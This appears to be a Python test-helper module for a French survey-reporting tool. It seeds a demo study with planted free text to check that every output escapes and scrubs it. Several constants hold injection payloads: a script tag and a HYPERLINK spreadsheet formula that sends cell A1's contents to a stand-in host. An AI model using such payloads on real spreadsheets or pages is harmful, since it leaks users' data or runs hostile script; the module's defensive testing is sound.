"""One fresh ``etude reproduce`` of the demo study per test session, shared by the reliability tests, and one
English run of the demo, shared by the tests that read the English deliverables.

The study takes a while to run; the privacy scan, the portable-run scan and the browser check read the same run
folder, so it is made once (in a temporary folder, never in the repository's ``outputs/``) and reused
(:func:`demo_run`); so is the English run (:func:`english_run`). It runs on a *seeded*
copy of the demo study: the simulated exports already carry fake e-mails, names, phones and SIRET in their
identifier columns and in some comments; the first respondent of each CSV export also gets :data:`PLANTED` as
free-text comment (a script tag, HTML, a spreadsheet formula, an e-mail address and a phone number) and the
second one :data:`PLANTED_FORMULA`, so a run proves free text is escaped, neutralised and scrubbed on its way
to every output.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

_CACHE: dict[str, Path] = {}

#: Planted in a free-text comment of the seeded demo study.
PLANTED_EMAIL = "jeanne.plantee@exemple.fr"
PLANTED_PHONE = "06 11 22 33 44"
PLANTED_SCRIPT = "<script>alert('fuite')</script>"
PLANTED = (f"{PLANTED_SCRIPT} <b>gras</b> =HYPERLINK(\"http://exemple.invalid\";\"clic\") "
           f"Écrire à {PLANTED_EMAIL} ou au {PLANTED_PHONE}.")
#: Planted as the whole comment of the second respondent: a cell a spreadsheet would run.
PLANTED_FORMULA = '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez ici")'


def seeded_demo_study(folder: Path) -> Path:
    """Copy the demo study into ``folder`` and plant :data:`PLANTED` in each CSV export; returns the study file."""
    import csv
    import io
    import shutil

    from etude import paths, survey

    src = paths.default_study()
    shutil.copytree(src.parent, folder, dirs_exist_ok=True)
    study = folder / src.name
    for inp in survey.read_study(study)["inputs"]:
        if inp["format"] != "csv":
            continue
        path = Path(inp["path"])
        raw = path.read_bytes()
        encoding = "utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "utf-8"
        try:
            text = raw.decode(encoding)
        except UnicodeDecodeError:
            encoding, text = "cp1252", raw.decode("cp1252")
        sep = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        col = rows[0].index("Commentaires")
        rows[1][col] = PLANTED
        rows[2][col] = PLANTED_FORMULA
        buf = io.StringIO()
        csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
        path.write_bytes(buf.getvalue().encode(encoding))
    return study


def etude(*args: str, env: dict | None = None, cwd: str | Path | None = None,
          timeout: float = 1500) -> subprocess.CompletedProcess:
    """Run the ``etude`` command (``python -m etude.cli``) in a subprocess, as a user would."""
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "etude.cli", *args], capture_output=True, text=True,
                          env=full_env, cwd=cwd, timeout=timeout)


def run_folder(proc: subprocess.CompletedProcess) -> Path:
    """The run folder ``etude reproduce`` printed as its last stdout line."""
    lines = [line for line in proc.stdout.splitlines() if line.strip()]
    assert lines, f"etude n'a rien affiché ; stderr :\n{proc.stderr[-3000:]}"
    return Path(lines[-1].strip())


def demo_run(tmp_path_factory) -> Path:
    """Run folder of a full ``etude reproduce`` on the seeded demo study (made once per session, whichever test
    process asks first: :func:`_once`).

    The seeded study file is ``study_of(run)``.
    """
    def make() -> dict[str, str]:
        out = tmp_path_factory.mktemp("demo_run")
        study = seeded_demo_study(tmp_path_factory.mktemp("demo_study"))
        proc = etude("reproduce", "--study", str(study), "--out", str(out))
        assert proc.returncode == 0, f"etude reproduce a échoué :\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
        folder = run_folder(proc)
        assert folder.is_dir() and folder.parent == out, (folder, out)
        return {"demo": str(folder), "study": str(study)}

    return _once("demo", tmp_path_factory, make)


def english_run(tmp_path_factory) -> Path:
    """Run folder of one ``etude reproduce --lang en`` of the demo study (made once per session): the English
    deliverables that ``test_english``, ``test_reader_words`` and ``test_localise`` read."""
    def make() -> dict[str, str]:
        proc = etude("reproduce", "--lang", "en", "--out", str(tmp_path_factory.mktemp("english_run")))
        assert proc.returncode == 0, \
            f"etude reproduce --lang en a échoué :\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
        return {"english": str(run_folder(proc))}

    return _once("english", tmp_path_factory, make)


def _once(name: str, tmp_path_factory, make) -> Path:
    """The run ``name`` of this test session, made by ``make`` (which returns ``{name: folder, …}``) in the first
    test process that asks for it and read back by the others.

    Under pytest-xdist each process has its own temporary folder inside one folder of the session; the first
    process to ask takes a lock there, makes the run and records its folders in ``<name>.json``; another process
    asking meanwhile waits on the lock, then reads the record (the pattern pytest-xdist's documentation gives for
    session fixtures, with the standard library's ``fcntl`` lock). Tests only read these folders.
    """
    import fcntl
    import json

    if name not in _CACHE:
        shared = tmp_path_factory.getbasetemp()
        if os.environ.get("PYTEST_XDIST_WORKER"):
            shared = shared.parent
        record = shared / f"etude-run-{name}.json"
        with open(shared / f"etude-run-{name}.lock", "w") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            if not record.exists():
                record.write_text(json.dumps(make()), encoding="utf-8")
            _CACHE.update({k: Path(v) for k, v in json.loads(record.read_text(encoding="utf-8")).items()})
    return _CACHE[name]


def study_of(run: Path) -> Path:
    """The seeded study file :func:`demo_run` ran on."""
    assert _CACHE.get("demo") == run
    return _CACHE["study"]


FIXTURE_NOTEBOOKS = Path(__file__).resolve().parents[1] / "notebooks_reliability"


def tiny_root(folder: Path, notebooks=("01_ok",)) -> Path:
    """A throw-away repository for ``ETUDE_ROOT``: the real ``data/`` (codebook, demo exports) and the given
    fixture notebooks from ``tests/notebooks_reliability/`` — a run of it takes seconds."""
    import shutil

    from etude import paths

    root = folder / "depot"
    shutil.copytree(paths.root() / "data", root / "data")
    (root / "notebooks").mkdir()
    (root / "outputs").mkdir()
    for nb in notebooks:
        add_notebook(root, nb)
    return root


def add_notebook(root: Path, name: str) -> None:
    """Copy fixture notebook ``name`` into ``root/notebooks/``."""
    import shutil

    shutil.copy2(FIXTURE_NOTEBOOKS / f"{name}.ipynb", root / "notebooks" / f"{name}.ipynb")


def env_for(root: Path, *, pdf: bool = False) -> dict:
    """Environment of a run on ``root``: its own root, a fixed salt, the real shared folder and, unless ``pdf``,
    no Chromium, so no ``report.pdf``.

    Printing the PDF is two thirds of a tiny run's processor time (about 5 of 8 s); the runs on such roots test
    the engine (what a failure leaves, messages, the cache), and the PDF itself is tested on the session's demo and
    English runs, in ``test_pdf`` and by the tests that ask for it here.
    """
    from etude import paths

    env = {"ETUDE_ROOT": str(root), "ETUDE_SALT": "9c2f21466bd6276504e7dd1b6346bdefd4cd949b08f7493fa6a321fb8e19ac50",
           "ETUDE_SHARED": str(paths.shared_dir())}
    return env if pdf else {**env, "ETUDE_CHROMIUM": ""}
